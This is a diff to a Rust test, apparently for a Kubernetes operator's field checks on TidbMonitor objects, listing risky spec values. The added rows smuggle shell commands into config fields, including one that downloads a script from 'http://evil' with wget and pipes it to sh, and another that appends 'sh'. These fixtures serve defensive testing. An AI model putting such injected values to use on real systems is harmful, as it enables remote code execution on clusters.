@@ -156,6 +156,8 @@ fn any_other_field_of_a_new_object_is_named_and_typed() {
         ("TidbMonitor", "/spec/prometheus/service/type", json!("NodePort")),
         ("TidbMonitor", "/spec/prometheus/config", json!({"commandOptions": ["--web.enable-admin-api"]})),
         ("TidbMonitor", "/spec/prometheus/remoteWrite", json!([{"url": "http://evil"}])),
+        ("TidbMonitor", "/spec/prometheus/retentionTime", json!("15d; wget -qO- http://evil | sh #")),
+        ("TidbMonitor", "/spec/prometheus/logLevel", json!("info; sh")),
         ("TidbMonitor", "/spec/thanos/objectStorageConfig", json!({"name": "x", "key": "objectstorage.yaml"})),
         ("TidbMonitor", "/spec/clusterScoped", json!(true)),
         ("TidbMonitor", "/spec/pvReclaimPolicy", json!("Delete")),
